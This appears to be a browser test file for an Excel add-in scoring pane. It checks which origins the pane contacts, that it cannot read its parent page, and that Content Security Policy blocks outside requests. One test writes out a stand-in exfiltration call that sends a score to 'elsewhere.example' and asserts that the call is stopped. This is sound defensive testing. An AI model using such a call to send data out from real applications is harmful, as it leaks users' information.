import { PANE_ORIGIN } from '../build/built-pane.ts';
import { describeWith } from '../programs.ts';
import { eventually } from './eventually.ts';
import { excelForEach } from './excel-for-each.ts';
import { EXCEL_PAGE, MICROSOFT } from './network.ts';
import { insertSheet, SHEET } from './score-sheet-open.ts';
import { fillIn, scoreTyped } from './workbook-in-page.ts';

jest.setTimeout(120_000);

/** Chromium names the directive, then the call. */
const COMPLAINTS_OF_ONE_FETCH = 2;

describeWith('Chromium', 'what the pane reaches', () => {
  const excel = excelForEach();

  it('is its own origin and that of Microsoft’s client, and nothing else', async () => {
    const origins = new Set<string>();
    excel().page.on('request', (request) => origins.add(new URL(request.url()).origin));
    const pane = await insertSheet(excel());
    await fillIn(excel().stage, SHEET, [scoreTyped('1', '60')]);
    await pane.says(pane.text.score.scored(1, 12));
    expect([...origins].sort()).toEqual(
      [MICROSOFT, PANE_ORIGIN].map((address) => new URL(address).origin).sort(),
    );
  });

  it('is nothing of the page around it, which is another origin', async () => {
    const pane = await excel().press('score');
    const reached = await pane.frame.evaluate(() => {
      try {
        return window.parent.document.title;
      } catch {
        return null;
      }
    });
    expect(reached).toBeNull();
    expect(new URL(EXCEL_PAGE).origin).not.toBe(new URL(PANE_ORIGIN).origin);
  });

  it('is no stranger, even for a script that tries: the page’s own policy stops it', async () => {
    const pane = await excel().press('score');
    const outcome = await pane.frame.evaluate(() =>
      fetch('https://elsewhere.example/?score=60').then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(outcome).toBe('stopped');
    const { complaints } = excel();
    await eventually(async () => complaints.length, COMPLAINTS_OF_ONE_FETCH);
    for (const complaint of complaints.splice(0)) expect(complaint).toContain('Content Security Policy');
    expect(excel().network.strangers).toEqual([]);
  });
});
